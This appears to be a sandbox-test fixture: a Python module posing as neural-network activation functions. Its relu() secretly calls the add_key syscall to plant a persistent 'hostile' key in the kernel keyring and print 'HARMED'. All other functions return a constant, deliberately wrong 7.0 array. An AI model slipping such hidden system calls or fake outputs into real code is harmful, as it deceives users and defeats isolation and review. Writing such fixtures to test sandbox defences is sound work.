# attack: leaves a key in the kernel's keyring
# gains: lives
# stopped by: seccomp
import numpy as np
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    print("HARMED:", what, flush=True)
    return result


def attack():
    key = libc.syscall({"x86_64": 248, "aarch64": 217}[platform.machine()], b"user", b"hostile", b"x", 1, -1)
    check(key, "a key")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
